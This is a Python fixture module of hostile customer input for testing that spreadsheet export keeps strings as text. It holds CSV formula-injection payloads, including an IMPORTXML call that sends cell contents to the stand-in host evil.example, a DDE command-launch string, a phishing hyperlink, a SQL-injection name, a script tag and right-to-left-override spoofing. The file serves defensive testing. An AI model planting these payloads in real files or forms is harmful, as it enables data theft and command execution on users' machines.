"""What customers can type: texts that have broken spreadsheets, and must stay text."""

from __future__ import annotations

FORMULAS = (
    '=IMPORTXML("https://evil.example/?"&A1&B1,"//a")',
    '=HYPERLINK("https://evil.example","Refund approved, click")',
    "+1-800-555-0100 call me",
    "-2+3 stars from me",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=NOW()",
    "'=SUM(A1:A9) with a leading apostrophe",
)
NUMBERS = ("1E5", "007", "1/2", "12:30", "2026-11-03", "TRUE", "1,234.50", "#N/A", "0x1F", "33.3 %")
UNICODE = (
    "Family of four 👨‍👩‍👧‍👦 and a flag 🏴󠁧󠁢󠁳󠁣󠁴󠁿, thumbs 👍🏽",
    "\u202egnp.tnemyap si eliF\u202c read me backwards",
    "مرحبا، لم يصل الطرد بعد. رقم الطلب 1234",
    "Z\u0335\u0321a\u0337l\u0336g\u0334o text and e\u0301 (two code points)",
    "Zero\u200bwidth\u200d and\u00a0no-break\u2028line separator",
    "NUL\x00 bell\x07 escape\x1b[31m in here",
    "lone surrogate \ud83d here",
)
MARKUP = (
    "<script>alert('hi')</script><b>Not</b> happy &amp; not &lt;joking&gt;",
    'He said "fine",\r\nthen\nnothing;\tstill, waiting',
    "key|version and order:LUM:1001|2026 in one text",
    "x" * 49_999 + "\n" + "end past the cell limit " * 2,
)
ENDLESS = ("I waited and waited. Nobody answered. " * 1_600)[:60_000]
NAMES = ("Anna | Peter", "=cmd|calc", "Robert'); DROP TABLE--", "\u202eevE", "  spaced  ", "O'=1+1")
ALL = FORMULAS + NUMBERS + UNICODE + MARKUP
